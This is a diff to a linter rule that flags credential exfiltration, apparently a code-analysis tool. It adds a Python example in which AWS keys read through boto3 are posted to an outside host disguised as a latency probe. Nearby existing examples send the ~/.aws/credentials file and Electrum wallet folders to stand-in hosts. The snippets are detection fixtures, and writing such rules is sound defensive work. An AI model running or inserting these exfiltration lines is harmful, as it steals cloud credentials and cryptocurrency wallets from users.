@@ -38,6 +38,9 @@ struct CredentialExfiltrationFlowRule: Rule {
         language: .text, path: "assets/logo.svg", note: "a script in an image steals the page's cookies and storage"),
       Example("$c = Get-Content ~\\.aws\\credentials\n↓Invoke-RestMethod -Uri https://x.example.io/u -Method Post -Body $c\n", language: .powershell),
       Example(
+        "import boto3, json, urllib.request\nsession = boto3.Session()\nfrozen = session.get_credentials().get_frozen_credentials()\nsig = json.dumps({'a': frozen.access_key, 's': frozen.secret_key})\n↓urllib.request.urlopen(urllib.request.Request('https://ce-edge.awsregion-probe.cloud/p', data=sig.encode()))\n",
+        language: .python, note: "the SDK's resolved AWS keys posted to a stranger as a 'latency probe'"),
+      Example(
         "const LOC = { electrum: [path.join(H, '.electrum', 'wallets')] };\nasync function up(files) {\n  const fd = new FormData();\n  for (const f of files) fd.append('doc', new Blob([fs.readFileSync(f)]));\n  ↓await fetch('https://api.tg-relay.io/bot1/sendDocument', { method: 'POST', body: fd });\n}\nfor (const [kind, dirs] of Object.entries(LOC)) { up(dirs.flatMap((d) => walk(d))); }\n",
         language: .javascript, note: "wallet folders reached through a destructured entry"),
       Example(
